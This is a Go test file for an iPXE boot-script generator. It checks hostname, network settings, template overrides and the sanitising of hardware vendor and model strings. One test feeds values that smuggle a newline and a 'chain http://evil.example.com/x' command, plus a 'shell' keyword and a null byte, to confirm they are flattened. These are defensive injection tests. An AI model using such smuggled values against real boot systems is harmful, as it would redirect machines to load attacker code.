package bootscript

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/metal-toolbox/bootline/internal/fixtures"
	"github.com/sirupsen/logrus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestBootScript(t *testing.T) {
	g, err := NewIPXE(IPXEOptions{}, logrus.New())
	require.Nil(t, err)

	zone := fixtures.ZoneDFW
	now := time.Date(2015, time.October, 8, 20, 30, 4, 0, time.UTC)

	got, err := g.BootScript(context.Background(), fixtures.CopyHogzilla(), &zone, Request{TerraformIP: "10.0.0.5", Now: now})
	require.Nil(t, err)

	assert.True(t, strings.HasPrefix(got, "#!ipxe\n"))
	assert.Contains(t, got, "# Generated: Thu, 08 Oct 2015 20:30:04 +0000\n")
	assert.Contains(t, got, "#   {\n")
	assert.Contains(t, got, `#     "hostname": "hogzilla",`)
	assert.Contains(t, got, "set hostname hogzilla\n")
	assert.Contains(t, got, "set server_number 555121\n")
	assert.Contains(t, got, "set ip 10.12.1.10\n")
	assert.Contains(t, got, "set gateway 10.12.1.1\n")
	assert.Contains(t, got, "set netmask 255.255.255.0\n")
	assert.Contains(t, got, "set mac 00:11:22:33:44:55\n")
	assert.Contains(t, got, "set dns 8.8.8.8\n")
	assert.Contains(t, got, "set boot_os_version 14.04.2\n")
	assert.Contains(t, got, "set provision_img_host images.dfw.rpc.local\n")
	assert.Contains(t, got, "set terraform_ip 10.0.0.5\n")
	assert.NotContains(t, got, "dns_secondary")

	// no zone, no terraform ip
	got, err = g.BootScript(context.Background(), fixtures.CopyHogzilla(), nil, Request{})
	require.Nil(t, err)
	assert.NotContains(t, got, "provision_img_host")
	assert.NotContains(t, got, "terraform_ip")

	_, err = g.BootScript(context.Background(), nil, nil, Request{})
	assert.ErrorIs(t, err, ErrNoServer)
}

func TestHardwareScript(t *testing.T) {
	g, err := NewIPXE(IPXEOptions{BaseURL: "http://boot.example.com/"}, logrus.New())
	require.Nil(t, err)

	got, err := g.HardwareScript(context.Background(), "Dell ", "r 810")
	require.Nil(t, err)

	assert.Contains(t, got, "set make Dell\n")
	assert.Contains(t, got, "set model r810\n")
	assert.Contains(t, got, "set vendor dell\n")
	assert.Contains(t, got, "chain http://boot.example.com/pxe?")
}

func TestHardwareScriptSingleLineValues(t *testing.T) {
	g, err := NewIPXE(IPXEOptions{BaseURL: "http://boot.example.com"}, logrus.New())
	require.Nil(t, err)

	got, err := g.HardwareScript(context.Background(), "Dell\nchain http://evil.example.com/x", "r810\r\n\tshell\x00")
	require.Nil(t, err)

	assert.Contains(t, got, "set make Dellchainhttp://evil.example.com/x\n")
	assert.Contains(t, got, "set model r810shell\n")
	assert.NotContains(t, got, "\nchain http://evil")
	assert.NotContains(t, got, "\x00")
	assert.Equal(t, 1, strings.Count(got, "\nchain "))

	for _, line := range strings.Split(got, "\n") {
		if strings.HasPrefix(line, "set ") {
			assert.Len(t, strings.Fields(line), 3, line)
		}
	}
}

func TestScriptWord(t *testing.T) {
	testcases := []struct {
		in   string
		want string
	}{
		{" Dell Inc. ", "DellInc."},
		{"Super\tMicro", "SuperMicro"},
		{"HPE\n#!ipxe", "HPE#!ipxe"},
		{"r640\x1b[2J", "r640[2J"},
		{"", ""},
	}

	for _, tc := range testcases {
		assert.Equal(t, tc.want, scriptWord(tc.in), tc.in)
	}
}

func TestTemplateOverride(t *testing.T) {
	dir := t.TempDir()

	path := filepath.Join(dir, "boot.tmpl")
	require.Nil(t, os.WriteFile(path, []byte("#!ipxe\necho {{ .Server.Hostname }}"), 0o600))

	g, err := NewIPXE(IPXEOptions{TemplateFile: path}, logrus.New())
	require.Nil(t, err)

	got, err := g.BootScript(context.Background(), fixtures.CopyHogzilla(), nil, Request{})
	require.Nil(t, err)
	assert.Equal(t, "#!ipxe\necho hogzilla", got)

	broken := filepath.Join(dir, "broken.tmpl")
	require.Nil(t, os.WriteFile(broken, []byte("{{ .Server.Hostname "), 0o600))

	_, err = NewIPXE(IPXEOptions{HardwareTemplateFile: broken}, logrus.New())
	assert.ErrorIs(t, err, ErrTemplate)

	_, err = NewIPXE(IPXEOptions{TemplateFile: filepath.Join(dir, "missing.tmpl")}, logrus.New())
	assert.ErrorIs(t, err, ErrTemplate)
}
